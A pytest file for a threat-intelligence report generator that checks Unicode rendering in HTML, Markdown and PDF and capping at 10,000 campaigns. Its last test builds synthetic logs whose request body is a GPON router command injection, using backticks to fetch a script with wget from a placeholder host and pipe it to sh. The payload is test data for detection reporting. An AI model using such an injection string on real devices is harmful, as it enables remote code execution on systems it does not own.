"""The report under stress: Unicode in every string (CJK, emoji, right-to-left scripts, combining
marks, one long unbroken word) renders intact in HTML, Markdown and PDF without widening the
page; a quarter of 10,000 campaigns renders in reasonable time with the per-campaign sections
capped (the full list stays in report.json and tables/campaigns.csv)."""

from __future__ import annotations

import copy
import csv
import json
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.report.browser import CHROMIUM, PDFTOPPM, cut_at_right, ink, measure, pdf_pages
from tests.report.conftest import append_to_strings, build_metrics
from tests.report.helpers import Page
from threatscope.report import write_report
from threatscope.report.limits import TIMELINE_CAMPAIGNS

UNICODE = [
    "東京都の攻撃者",  # CJK
    "🔥🛡️🇯🇵",  # emoji, a variation selector, a flag (two regional indicators)
    "هجوم على الخادم",  # Arabic, right to left
    "מתקפה",  # Hebrew
    "Ünïcödé café",  # precomposed letters
    "e\u0301a\u0300o\u0308",  # base letters with combining accents
    "Ελληνικά кириллица",
]
LONG_WORD = "Überlängenwort" * 12  # 168 letters and no break opportunity


def _unicode_metrics() -> dict:
    """The realistic document with a Unicode string appended to every string (dates kept)."""
    m = append_to_strings(build_metrics(), UNICODE, " ")
    m["campaigns"][0]["title"] = f"{LONG_WORD} {UNICODE[0]}"
    m["sectors"][0]["sector"] = LONG_WORD
    m["indicators"]["appendix"][1]["value"] = f"http://例え.テスト/{LONG_WORD}?q=🔥"
    return m


@pytest.fixture(scope="module")
def unicode_report(tmp_path_factory):
    out = tmp_path_factory.mktemp("unicode")
    m = _unicode_metrics()
    return m, write_report(m, out, pdf=CHROMIUM is not None)


def test_unicode_is_intact_in_html_and_markdown(unicode_report):
    m, paths = unicode_report
    text = Page(paths["html"].read_text(encoding="utf-8")).text
    md = paths["md"].read_text(encoding="utf-8")
    for s in UNICODE + [LONG_WORD]:
        assert s in text, s
        assert s in md, s
    assert m["campaigns"][0]["title"] in text
    # report.json keeps every string as given
    assert json.loads(paths["json"].read_text(encoding="utf-8")) == m


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
@pytest.mark.parametrize("width", [1280, 800, 390])
def test_unicode_does_not_widen_the_page(unicode_report, tmp_path, width):
    _, paths = unicode_report
    layout = measure(tmp_path, paths["html"], width)
    assert layout["n_wide"] == 0, layout["wide"]
    assert layout["scroll_width"] <= width


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None or PDFTOPPM is None, reason="no chromium or pdftoppm")
def test_unicode_pdf_has_the_text(unicode_report, tmp_path):
    _, paths = unicode_report
    text = subprocess.run(["pdftotext", str(paths["pdf"]), "-"], capture_output=True,
                          text=True, check=True).stdout
    flat = "".join(text.split())
    # (CJK needs a CJK font: without one chromium prints boxes, which carry no text)
    cjk = subprocess.run(["fc-list", ":lang=ja"], capture_output=True, text=True).stdout.strip()
    for s in ("東京都の攻撃者",) * bool(cjk) + ("Ελληνικά", "Ünïcödé"):
        assert s in flat, s
    assert "".join(LONG_WORD.split()) in flat.replace("-", "")
    pages = pdf_pages(paths["pdf"], tmp_path / "pages", dpi=100)
    margin = round(12 / 25.4 * 100)  # the print style sheet's 12 mm
    for n, page in enumerate(pages, 1):
        assert ink(page) > 0.002, f"page {n} is blank"
        assert ink(page[:, -margin + 2:]) == 0 and cut_at_right(page, margin) == 0, n


N_CAMPAIGNS = 10_000


def _many_campaigns(n: int) -> dict:
    """The realistic document with ``n`` campaigns: the four real ones, then synthetic keys."""
    m = build_metrics()
    real = m["campaigns"]
    camps = list(real)
    for i in range(n - len(real)):
        c = copy.deepcopy(real[i % len(real)])
        c["campaign"] = f"synthetic-{i:05d}"
        c["title"] = f"Synthetic campaign {i:05d}"
        camps.append(c)
    camps.sort(key=lambda c: (-c["period"], c["campaign"]))
    m["campaigns"] = camps
    return m


@pytest.fixture(scope="module")
def many_report(tmp_path_factory):
    m = _many_campaigns(N_CAMPAIGNS)
    out = tmp_path_factory.mktemp("many")
    t0 = time.monotonic()
    paths = write_report(m, out)
    return m, paths, time.monotonic() - t0


def _timeline_charts(html: str) -> int:
    return len(re.findall(r'aria-label="Daily detected events of ', html))


def test_many_campaigns_render_capped(many_report):
    m, paths, seconds = many_report
    print(f"\nwrite_report with {N_CAMPAIGNS:,} campaigns: {seconds:.1f} s")
    html = paths["html"].read_text(encoding="utf-8")
    assert len(html) < 3_000_000
    assert _timeline_charts(html) == TIMELINE_CAMPAIGNS
    more = N_CAMPAIGNS - TIMELINE_CAMPAIGNS
    assert f"… {more:,} more campaigns in tables/campaigns.csv" in Page(html).text
    md = paths["md"].read_text(encoding="utf-8")
    assert md.count("\n- **Onset:**") == TIMELINE_CAMPAIGNS
    assert f"… {more:,} more campaigns in tables/campaigns.csv" in md
    # the campaign table is capped too, and says where the rest is
    assert f"… {N_CAMPAIGNS - 50:,} more rows in report.json and tables/" in Page(html).text
    # the full list: report.json and the CSV
    assert len(json.loads(paths["json"].read_text(encoding="utf-8"))["campaigns"]) == N_CAMPAIGNS
    with open(paths["tables"] / "campaigns.csv", encoding="utf-8", newline="") as f:
        assert sum(1 for _ in csv.reader(f)) == N_CAMPAIGNS + 1


def test_campaigns_up_to_the_cap_are_all_shown(tmp_path):
    """The look-alike: exactly as many campaigns as the cap, each with its timeline, no 'more'."""
    paths = write_report(_many_campaigns(TIMELINE_CAMPAIGNS), tmp_path)
    html = paths["html"].read_text(encoding="utf-8")
    assert _timeline_charts(html) == TIMELINE_CAMPAIGNS
    assert "more campaigns in tables/campaigns.csv" not in html
    assert "more campaigns" not in paths["md"].read_text(encoding="utf-8")


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
def test_many_campaigns_open_in_a_browser(many_report, tmp_path):
    _, paths, _ = many_report
    t0 = time.monotonic()
    layout = measure(tmp_path, paths["html"], 1280)
    assert time.monotonic() - t0 < 60
    assert layout["n_wide"] == 0, layout["wide"]
    assert sum(c["label"].startswith("Daily detected events of ")
               for c in layout["charts"]) == TIMELINE_CAMPAIGNS


BIN = str(Path(sys.executable).parent / "threatscope")
UNICODE_ORGS = [("tokyo", "東京銀行 🏦", "金融 finance"), ("cairo", "بنك القاهرة", "مالية"),
                ("zurich", "Zürich Versicherung e\u0301", "Versicherung 🇨🇭")]


def test_unicode_workspace_end_to_end(tmp_path):
    """Unicode organisation names, sectors, URIs and user agents through `threatscope run`:
    the sectors and the payload URLs come out intact in the HTML and Markdown reports."""
    data = tmp_path / "data"
    data.mkdir()
    with open(data / "orgs.csv", "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([("org_id", "name", "sector"), *UNICODE_ORGS])
    urls = []
    for k, (org, _, _) in enumerate(UNICODE_ORGS):
        (data / org).mkdir()
        lines = []
        for i in range(12):
            url = f"http://例え{k}.テスト/攻撃{i}.sh"
            urls.append(url)
            for month in ("02", "05"):
                lines.append({
                    "ts": f"2018-{month}-{1 + i:02d}T10:00:00Z", "src_ip": f"198.51.100.{i + k}",
                    "method": "POST", "uri": f"/GponForm/diag_Form?images/&q=東京{i}",
                    "headers": {"User-Agent": f"Mozilla/5.0 🔥 ثعلب {i}", "Referer": "http://é.example/"},
                    "body": f"XWebPageName=diag&diag_action=ping&dest_host=`wget+{url}+-O+-|sh`",
                    "org_id": org})
        (data / org / "web.jsonl").write_text(
            "".join(json.dumps(x, ensure_ascii=False) + "\n" for x in lines), encoding="utf-8")
    out = tmp_path / "out"
    r = subprocess.run([BIN, "run", "-w", str(tmp_path / "ws"), "--orgs", str(data / "orgs.csv"),
                        *[str(data / o) for o, _, _ in UNICODE_ORGS], "-o", str(out)],
                       capture_output=True, text=True, timeout=300, check=False)
    assert r.returncode == 0, r.stdout + r.stderr
    m = json.loads((out / "report.json").read_text(encoding="utf-8"))
    assert {s["sector"] for s in m["sectors"]} == {s for _, _, s in UNICODE_ORGS}
    text = Page((out / "report.html").read_text(encoding="utf-8")).text
    md = (out / "report.md").read_text(encoding="utf-8")
    for _, _, sector in UNICODE_ORGS:
        assert sector in text and sector in md, sector
    shown = [a["value"] for a in m["indicators"]["appendix"] if a["indicator_type"] == "url"]
    assert shown and set(shown) <= set(urls)
    assert all(u in text for u in shown)
